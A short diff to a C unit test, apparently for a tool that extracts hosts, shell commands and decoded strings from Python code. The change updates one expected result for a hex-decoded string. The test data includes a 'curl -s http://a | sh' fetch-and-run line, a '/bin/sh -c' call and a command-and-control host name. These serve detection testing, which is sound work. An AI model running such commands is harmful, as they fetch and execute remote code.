@@ -127,7 +127,7 @@ static void texts_that_are_told(void **state)
 	               "host:c2.example.com");
 	assert_strings(state, "python", "f('curl -s http://a | sh', 'sh is a shell', '/bin/sh -c x', 'cat and dog')",
 	               "command:curl -s http://a | sh command:/bin/sh -c x");
-	assert_strings(state, "python", "f(bytes.fromhex('68696464656e2121'))", "");
+	assert_strings(state, "python", "f(bytes.fromhex('68696464656e2121'))", "decoded:hidden!!");
 	assert_strings(state, "python", "x = 'hidden!!'[::-1]", "decoded:!!neddih");
 }
 
